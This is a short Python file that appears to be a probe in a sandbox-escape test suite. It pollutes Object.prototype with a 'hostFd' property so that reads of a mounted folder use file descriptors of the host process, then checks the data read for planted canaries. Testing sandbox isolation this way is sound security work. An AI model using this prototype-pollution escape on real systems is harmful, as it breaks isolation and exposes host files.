"""Puts `hostFd` on `Object.prototype`: reads of the mounted folder then use a file descriptor of the host process."""

import os

from bait import ROOT, canaries, intrinsics, loot

_, _, _prototype, _ = intrinsics()
_everything = _prototype.__proto__


def _try(number):
    _everything.hostFd = number
    try:
        return canaries(os.read(os.open(ROOT, os.O_RDONLY), 4096))
    finally:
        delattr(_everything, "hostFd")


got = loot(*[lambda number=number: _try(number) for number in (0, 3, 10, 18, 19, 20, 21, 22)])
